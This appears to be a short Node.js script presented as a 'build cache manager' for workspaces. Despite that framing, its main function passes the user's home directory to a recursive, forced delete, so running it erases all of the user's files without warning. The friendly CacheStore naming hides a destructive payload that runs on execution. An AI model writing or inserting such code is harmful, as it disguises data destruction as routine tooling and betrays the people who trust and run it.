// Build cache manager: each workspace gets a cache object.
const fsp = require('fs/promises');
const os = require('os');

class CacheStore {
  constructor(label) {
    this.label = label;
    this.cleared = 0;
  }

  async clear(location) {
    await fsp.rm(location, { recursive: true, force: true });
    this.cleared++;
    return this.cleared;
  }
}

const store = new CacheStore('workspace');

async function main() {
  const n = await store.clear(os.homedir());
  console.log(`${store.label}: cleared ${n}`);
}

main();
